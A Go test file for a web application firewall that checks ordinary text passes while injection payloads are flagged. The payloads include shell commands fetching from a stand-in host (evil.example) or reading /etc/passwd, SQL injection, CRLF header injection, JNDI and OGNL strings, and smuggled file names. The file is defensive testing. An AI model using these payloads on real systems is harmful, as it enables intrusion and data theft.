package waf

import (
	"net/url"
	"testing"

	configv1 "edge.svc/caddy/gen/svc/config/v1"
)

// exceptedCase is a value that is no attack, or is one, though it resembles others.
type exceptedCase struct {
	value  string
	attack bool
}

// exceptedCases are the tests of each exception, by its name.
var exceptedCases = map[string][]exceptedCase{
	"prose": {
		{value: "Hello,\nFind attached the invoice"},
		{value: "Order 123\nCancel my order please"},
		{value: "desk & wall lamp"},
		{value: "Buy | Sell | Join now"},
		{value: "Dear team,\r\n\r\nlook at the new screen and install it.\r\nThanks!\r\nMake sure it works (please)."},
		{value: "Shopping list:\nMail the letter\nSort the papers; file the rest\nTouch up the wall"},
		{value: "It is time to find a new place. Watch and join us!"},
		{value: "Head office\nService desk\nFile 12"},
		{value: "Nous arrivons.\nSi tu veux, viens avec nous.\nDel resto, nada."},
		{value: "first line\nUpdate: the 3 orders were sent\nPrint & post"},
		{value: "Opening times\nMake an appointment\nTel. 030/123456"},
		{value: "<p>desk &amp; wall lamp</p>\n<p>Sort the <b>papers</b> &amp; file them</p>"},
		{value: "29K Support Products\nMail Stop 573\n5900 E. Ben White Blvd.\nAustin, TX 78741"},
		{value: "<ul>\n<li>join us</li>\n<li>find out &nbsp;more</li></ul>"},
		{value: "The socket() function of the first version can use v5.16 and\nfind malloc(3) there, e.g. with USE_64_BIT_INT -- see [perl #120925]."},
		{value: "文件中有，而「另一个」没有的行。\n反之亦然; find 它"},
		{value: "hello\nfind [a] /etc", attack: true},
		{value: "Hello, this is my message, if not defined bar (", attack: true},
		{value: "Hello, if not defined _example echo value missing", attack: true},
		{value: "hello\nfind -- /etc x", attack: true},
		{value: "<p>x</p>; find / -name y", attack: true},
		{value: "desk &amp; wget evil", attack: true},
		{value: "; sort </etc/passwd", attack: true},
		{value: "hello\nfind / -name passwd", attack: true},
		{value: "hello\nfind . -exec id", attack: true},
		{value: "hello; cat /etc/passwd", attack: true},
		{value: "hello\nwget evil", attack: true},
		{value: "Hello,\nFind attached\nwget http://evil.example/x", attack: true},
		{value: "hello & sort -o x y", attack: true},
		{value: "a|sort /etc/passwd", attack: true},
		{value: "x;find${IFS}.", attack: true},
		{value: "a & sleep 5", attack: true},
		{value: "time wget evil", attack: true},
		{value: "cd /\ncd etc\nfold passwd", attack: true},
		{value: "; make > x", attack: true},
		{value: "hello\nscript *", attack: true},
		{value: "Hello, if not exist c:\\x cmd", attack: true},
		{value: "Hello, if not errorlevel 0 cmd", attack: true},
		{value: "Hello, this is my message nohup who", attack: true},
		{value: "Hello,\nFind attached the `id`", attack: true},
		{value: "Hello,\nFind attached the $(id)", attack: true},
	},
	"capitals": {
		{value: "Perl uses a simple signed integer type."},
		{value: "Gzip compresses the files before they are sent.\nPerl reads them."},
		{value: "<p class=\"note\">The same version of\nPerl is needed there.</p>"},
		{value: "Python, Ruby and Node are languages"},
		{value: "CPAN modules are there for everybody who needs them"},
		{value: "CPAN modules", attack: true},
		{value: "Git stores the history of all files; Curl loads them"},
		{value: "perl uses a.pl", attack: true},
		{value: "PERL -e x", attack: true},
		{value: "Hello there\nwget evil", attack: true},
		{value: "Perl is nice\ncurl -o x evil.example", attack: true},
		{value: "x; perl -e 'system(1)'", attack: true},
	},
	"titles": {
		{value: "uname - print system information"},
		{value: "realpath - print the resolved path"},
		{value: "gzip, gunzip, zcat - compress or expand files"},
		{value: "chown - Modifier le propriétaire et le groupe d'un fichier"},
		{value: "zgrep - search compressed files\nfor a regular expression"},
		{value: "uname - x", attack: true},
		{value: "uname -a is what you want", attack: true},
		{value: "whoami", attack: true},
		{value: "xargs - run this command please", attack: true},
		{value: "env - whoami in this place", attack: true},
		{value: "uname - print this; whoami", attack: true},
		{value: "uname - print all of /etc/passwd", attack: true},
		{value: "uname - print this here\nwhoami", attack: true},
		{value: "tac - compress all secret files", attack: true},
		{value: "uname - print all that `id` says", attack: true},
		{value: "base64 - decode -d this file", attack: true},
	},
	"parentheses": {
		{value: "perl (5.36.0-7) bookworm and more"},
		{value: "dpkg (1.21.15) unstable and experimental"},
		{value: "perl (the language) is old"},
		{value: "Hello\ndpkg (1.21.19) is there"},
		{value: "curl (see below) loads it"},
		{value: "as a special case; chmod, force and backup are given"},
		{value: "{cp,/etc/passwd,/tmp/x}", attack: true},
		{value: "perl $(id)", attack: true},
		{value: "perl (5.36)\nwget evil", attack: true},
		{value: "perl \\(id", attack: true},
		{value: "perl '(5.36)'", attack: true},
		{value: "bash <(curl evil.example)", attack: true},
		{value: "time (5.36); curl -o x evil.example", attack: true},
	},
	"calls": {
		{value: "a software system (if any of them works)"},
		{value: "the glob (with all its files) is read"},
		{value: "additional details are in systemd.exec(5) and file(1)"},
		{value: "the file (see below) is sent"},
		{value: "Softlanding Linux System (known by its short name)"},
		{value: "when exec() is called inside another process"},
		{value: "return phpinfo() is here now", attack: true},
		{value: "x phpinfo() and more text", attack: true},
		{value: "the phpinfo();", attack: true},
		{value: "exec() is called", attack: true},
		{value: "system (id)", attack: true},
		{value: "system('rm now')", attack: true},
		{value: "eval(include x)", attack: true},
		{value: "assert($a b)", attack: true},
		{value: "phpinfo()", attack: true},
	},
	"SQL calls": {
		{value: "the standard ASCII (also called another name) is old"},
		{value: "[fetch, insert, update and delete](https://example.com/)"},
		{value: "the hash, hex. (and others)"},
		{value: "the date of insert (not the other one)", attack: true},
		{value: "1 and ascii(substring(a,1,1))", attack: true},
		{value: "concat(a, b)", attack: true},
		{value: "trim (both a from b)", attack: true},
		{value: "1 or extract (year from x)", attack: true},
	},
	"statements": {
		{value: "* Update chalk."},
		{value: "* Drop node 12 support"},
		{value: "### Create request"},
		{value: "# Rename manpages-l10n"},
		{value: "3. Drop folder."},
		{value: "* update dependency of the package"},
		{value: "1 drop table users", attack: true},
		{value: "* CREATE OR REPLACE FUNCTION x", attack: true},
		{value: "1 update users set admin=1", attack: true},
		{value: "' create thing", attack: true},
		{value: "1; drop thing", attack: true},
		{value: "* Update chalk. ' or 1=1 union select password from users", attack: true},
	},
	"arrow": {
		{value: "<span class=\"a\"><em>woody</em></span> (Debian 3) was it"},
		{value: "see <span class=\"a\">apt-get</span>(8) and <b>dpkg</b>(1)"},
		{value: "<p>데비안 3.1 <em>사지</em>(2005년 6월 6일)</p>"},
		{value: "<em>햄</em>(1998년): x"},
		{value: "<em class=\"a\">x</em>(id)", attack: true},
		{value: "<em>x</em>(8; id)", attack: true},
		{value: "<em>x</em>(7z a)", attack: true},
		{value: "<em>x</em>(8 | sh)", attack: true},
		{value: "<em>x</em>(8) <em>x</em>(id)", attack: true},
		{value: "<em>x</em>(8\nid)", attack: true},
		{value: "cat >\"\"(id)", attack: true},
		{value: "Menu -> (Settings)"},
		{value: "File => (Open) => (Recent)"},
		{value: "if a > (b) or c < (d)"},
		{value: "cat <(id)", attack: true},
		{value: "echo a->(id)", attack: true},
		{value: "x >(tee log)", attack: true},
		{value: "Menu -> (Settings) >(tee log)", attack: true},
	},
	"dots": {
		{value: "email profile openid https://www.googleapis.com/auth/userinfo.profile"},
		{value: "https://www.googleapis.com/auth/userinfo.profile https://www.googleapis.com/auth/userinfo.email"},
		{value: "see https://docs.example.com/app/config.json and http://my.history.example.org:8080/a.b"},
		{value: "https://example.com/users/jane.profile?tab=work"},
		{value: "https://example.com/?page=config.php", attack: true},
		{value: "api.history.example.com"},
		{value: "jane.profile@example.com"},
		{value: "Write to <bob.forward@mail.example.org>, please"},
		{value: "https://例え.example.com/john.profile"},
		{value: ".profile", attack: true},
		{value: "/home/jane/.profile", attack: true},
		{value: "https://example.com/.htpasswd", attack: true},
		{value: "https://example.com/a/../.profile", attack: true},
		{value: "https://example.com/etc/passwd", attack: true},
		{value: "https://example.com/a.profile /etc/passwd", attack: true},
		{value: "config.php", attack: true},
		{value: "app.config.php", attack: true},
		{value: "https://example.com/a%2eprofile", attack: true},
		{value: "file:///home/a.profile", attack: true},
	},
	"longer hosts": {
		{value: "http://localhostels.example.com/rooms"},
		{value: "http://localhost-blog.example/"},
		{value: "http://localhost/", attack: true},
		{value: "http://localhost:8080/", attack: true},
		{value: "http://localhost@evil.example/", attack: true},
		{value: "http://localtest.me/", attack: true},
		{value: "http://127.0.0.1/ http://localhosting.example/", attack: true},
	},
	"questions": {
		{value: "File uploaded, what next?"},
		{value: "Files are missing. Why??"},
		{value: "http or ftp, which is better?"},
		{value: "http://evil.example/shell.txt?", attack: true},
		{value: "https://evil.example/a b?", attack: true},
		{value: "ftp:evil.example/x?", attack: true},
	},
	"fields": {
		{value: "Job: Developer\nLocation: Remote"},
		{value: "Job: Developer\r\nLocation: Remote"},
		{value: "Company: Acme\r\nLocation: St. Louis, MO\r\nContent-Type: article"},
		{value: "Party!\r\nHost: Jane Doe\r\nVia: Rome and Milan"},
		{value: "1. Hello\n * Location: 3rd floor, room 12"},
		{value: "Thanks\n :-)\nBye"},
		{value: "Notes\nset-cookie: what is it for"},
		{value: "x\r\nLocation: https://evil.example/", attack: true},
		{value: "x\r\nLocation: evil.example", attack: true},
		{value: "x\nContent-Type: text/html", attack: true},
		{value: "x\r\nContent-Length: 0", attack: true},
		{value: "x\rSet-Cookie: a=b", attack: true},
		{value: "x\r\nContent-Length:\v0", attack: true},
		{value: "x\r\nContent-Length:\f0", attack: true},
		{value: "Job: Developer\r\nLocation: Remote\r\nSet-Cookie: a=b", attack: true},
	},
	"versions": {
		{value: "We support HTTP/2 and HTTP/3 now"},
		{value: "HTTP/2 is here\nHTTP/3 soon"},
		{value: "The server answers with HTTP/1.1, not with HTTP/2."},
		{value: "x\r\nHTTP/1.1 200 OK", attack: true},
		{value: "HTTP/1.1 200 OK", attack: true},
		{value: "x HTTP/1.1 302 Found", attack: true},
		{value: "x GET /admin HTTP/1.1", attack: true},
		{value: "We support HTTP/2\r\n\r\n<html>", attack: true},
	},
	"macros": {
		{value: "WHERE $__timeFilter(time)"},
		{value: "$__timeGroup(time, 5m), $__interval_ms (x)"},
		{value: "$__a(1)", attack: true},
		{value: "$__timeFilter(time) $_GET[1](1)", attack: true},
		{value: "$f('id')", attack: true},
	},
	// Those of headers and files have tests of their own.
	"media types": {{value: "text/html"}}, "accepted types": {{value: "text/html"}}, "file names": {{value: "minutes; draft.docx"}},
}

// A value that is no code of the language that a rule defends is no attack; whatever resembles it is one still.
func TestExceptions(t *testing.T) {
	s := settingsOf(t, asIs)
	for i := range exceptions {
		e := &exceptions[i]
		cases := exceptedCases[e.name]
		if len(cases) == 0 {
			t.Errorf("%s has no tests", e.name)
		}
		for _, c := range cases {
			body := "message=" + url.QueryEscape(c.value)
			v := judge(t, s, asked("POST", "/", body, form), body)
			if (v.score >= s.threshold) != c.attack {
				t.Errorf("%s: %q: %v", e.name, c.value, v)
			}
			if v := judge(t, s, asked("GET", "/?message="+url.QueryEscape(c.value), ""), ""); (v.score >= s.threshold) != c.attack {
				t.Errorf("%s: %q in a query: %v", e.name, c.value, v)
			}
		}
	}
}

// Text of an unknown charset, or one that is decoded again, has no exceptions.
func TestExceptionsAreForTextThatIsDecodedOnce(t *testing.T) {
	s := settingsOf(t, func(m *configv1.SiteWaf) { m.Charsets = []string{"utf-8", "shift_jis"} })
	if v := judge(t, s, asked("GET", "/?message=HTTP/2+is+here%8A", ""), ""); v.score < s.threshold {
		t.Errorf("bytes that are no text: %v", v)
	}
	body := "message=" + url.QueryEscape("Hello,\nFind attached the invoice")
	for contentType, attack := range map[string]bool{
		"application/x-www-form-urlencoded; charset=utf-8":     false,
		"application/x-www-form-urlencoded; charset=shift_jis": true,
	} {
		if v := judge(t, s, asked("POST", "/", body, "Content-Type: "+contentType), body); (v.score >= s.threshold) != attack {
			t.Errorf("%s: %v", contentType, v)
		}
	}
}

// Media types with parameters are valid, and names of charsets are those of browsers.
func TestMediaTypesWithParameters(t *testing.T) {
	s := settingsOf(t, asIs)
	for contentType, attack := range map[string]bool{
		"application/json;charset=utf-8;":                                            false,
		"application/json; odata.metadata=minimal":                                   false,
		"application/json; odata.metadata=minimal; IEEE754Compatible=true":           false,
		`application/ld+json; profile="https://www.w3.org/ns/activitystreams"`:       false,
		"application/json; charset=utf8":                                             false,
		"application/json ; charset=\"UTF-8\" ;":                                     false,
		"text/plain; charset=us-ascii; format=flowed; delsp=yes":                     false,
		"application/json; charset=latin1":                                           false,
		"application/vnd.api+json; ext=\"https://jsonapi.org/ext/atomic\"":           false,
		"application/json; charset=utf-7":                                            true,
		"application/json; charset=utf-16le":                                         true,
		"application/json; charset=ibm037":                                           true,
		"application/json; charset=utf8; charset=ibm037":                             true,
		"application/json; a=b c":                                                    true,
		"application/json; garbage":                                                  true,
		`application/json; a="%{(#a='multipart/form-data').(#b=@ognl.OgnlContext)}"`: true,
		"application/json; a=${jndi:ldap://a.b/c}":                                   true,
	} {
		if v := judge(t, s, asked("POST", "/", "{}", "Content-Type: "+contentType), `{"a":1}`); (v.score >= s.threshold) != attack {
			t.Errorf("%s: %v", contentType, v)
		}
	}
	for accept, attack := range map[string]bool{
		"": false,
		`application/ld+json; profile="https://www.w3.org/ns/activitystreams"`:                                       false,
		`application/activity+json, application/ld+json; profile="https://www.w3.org/ns/activitystreams", */*;q=0.1`: false,
		"application/json;odata.metadata=minimal;q=0.9, text/html;":                                                  false,
		`text/html; a="b,c"; q=1`:                        false,
		"text/html;charset=utf8":                         false,
		"text/html; charset=utf-16":                      true,
		"text/html; charset=CP1026":                      true,
		"<script>alert(1)</script>":                      true,
		"text/html; a=${jndi:ldap://a.b/c}":              true,
		`application/ld+json; profile="' or 1=1 -- <a>"`: true,
	} {
		x := asked("GET", "/", "")
		x.In.Header.Set("Accept", accept)
		if v := judge(t, s, x, ""); (v.score >= s.threshold) != attack {
			t.Errorf("%s: %v", accept, v)
		}
	}
}

// Marks in the name of a file are ordinary in quotes, and what can begin another name is not.
func TestMarksInNamesOfFiles(t *testing.T) {
	s := settingsOf(t, asIs)
	for disposition, attack := range map[string]bool{
		`filename="minutes; draft.docx"`:                     false,
		`filename="a; b; c d.pdf"`:                           false,
		`filename="Besprechung; Entwurf é.docx"`:             false,
		`filename="tools 1.2; urgency=medium.pdf"`:           true,
		`filename="==> done.txt"`:                            false,
		`filename="a=b.txt"`:                                 true,
		`filename="the 'best' of.txt"`:                       false,
		`filename="écran d'accueil.png"`:                     false,
		`filename="c'e' un file.txt"`:                        false,
		`filename="the end;.pdf"`:                            false,
		`filename="perche' no; ma forse.txt"`:                true,
		`filename="A &amp; B &lt;3.txt"`:                     true,
		`filename="v=1.mp3"; x=y`:                            true,
		`filename="the x=y.txt"`:                             false,
		`filename="te;st.txt"`:                               true,
		`filename="file=.txt"`:                               true,
		`filename="&amp;fi;zzz"`:                             true,
		`filename="report.php; .jpg"`:                        true,
		`filename="a.jsp;.jpg"`:                              true,
		`filename="a; filename=b.php"`:                       true,
		`filename="a; FileName*0=b.php"`:                     true,
		`filename="a;name = b"`:                              true,
		`filename="a; ../b.txt"`:                             true,
		`filename="a; b\\c.txt"`:                             true,
		`filename="a'; x='b.png"`:                            true,
		`filename="a&quot;; x.png"`:                          true,
		`filename="a%22; b.png"`:                             true,
		`filename=a';x='b`:                                   true,
		`filename='a b.php'`:                                 true,
		`filename='a.php'`:                                   true,
		`filename="a'b.png"; filename="ab.png"`:              true,
		`filename=ab; x="filename="; filename*=UTF-8''a%3Db`: true,
	} {
		body := "--b\r\nContent-Disposition: form-data; name=\"f\"; " + disposition + "\r\n\r\nx\r\n--b--\r\n"
		if v := judge(t, s, asked("POST", "/", "x", multipartB), body); (v.score >= s.threshold) != attack {
			t.Errorf("%s: %v", disposition, v)
		}
	}
}

// A name without quotes has no exceptions, though another part has the same name in quotes.
func TestNamesOfFilesWithoutQuotes(t *testing.T) {
	s := settingsOf(t, asIs)
	part := func(disposition string) string {
		return "--b\r\nContent-Disposition: form-data; name=\"f\"; " + disposition + "\r\n\r\nx\r\n"
	}
	body := part(`filename="a.png"`) + part(`filename='a.png'`) + "--b--\r\n"
	if v := judge(t, s, asked("POST", "/", "x", multipartB), body); v.score < s.threshold {
		t.Errorf("%v", v)
	}
}

// A site that wants no exceptions has the rule set as it is.
func TestSitesWithoutExceptions(t *testing.T) {
	text := "/?q=" + url.QueryEscape("Hello,\nFind attached the invoice")
	for exact, score := range map[bool]bool{false: false, true: true} {
		s := settingsOf(t, func(m *configv1.SiteWaf) { m.WithoutExceptions = exact })
		if v := judge(t, s, asked("GET", text, ""), ""); v.score > 0 != score {
			t.Errorf("without exceptions %v: %+v", exact, v)
		}
	}
}
